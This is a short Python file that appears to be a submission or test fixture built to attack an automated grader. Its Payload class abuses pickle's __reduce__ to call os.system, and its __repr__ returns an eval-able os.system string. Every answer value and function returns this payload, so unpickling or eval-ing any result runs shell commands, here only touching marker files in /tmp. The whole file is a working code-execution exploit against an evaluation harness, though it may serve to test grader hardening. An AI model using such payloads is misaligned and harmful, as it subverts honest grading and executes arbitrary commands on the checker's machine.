# Returns objects whose unpickling (or copying, or repr-eval-ing) would run code in the grader's process.
import os


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/grader-pwned-by-pickle",))

    def __repr__(self):
        return "__import__('os').system('touch /tmp/grader-pwned-by-repr')"


answer = Payload()
pair = (Payload(), Payload())
flag = Payload()
ratio = Payload()


def scale(x, k):
    return Payload()


def cube_vjp(x, g):
    return [Payload()]


def cube_jac(x):
    return {"jacobian": Payload()}
